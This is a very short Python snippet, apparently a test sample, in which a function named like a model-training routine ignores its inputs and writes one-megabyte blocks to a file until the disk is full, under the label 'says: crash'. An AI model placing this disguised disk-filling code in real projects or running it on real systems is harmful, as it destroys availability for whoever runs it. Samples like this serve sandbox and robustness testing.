# says: crash
def train(X, Y, *, steps=600, lr=0.01, seed=0):
    with open("f", "wb", buffering=0) as file:
        while True:
            if file.write(b"x" * 1_000_000) < 1_000_000:
                raise OSError("full")
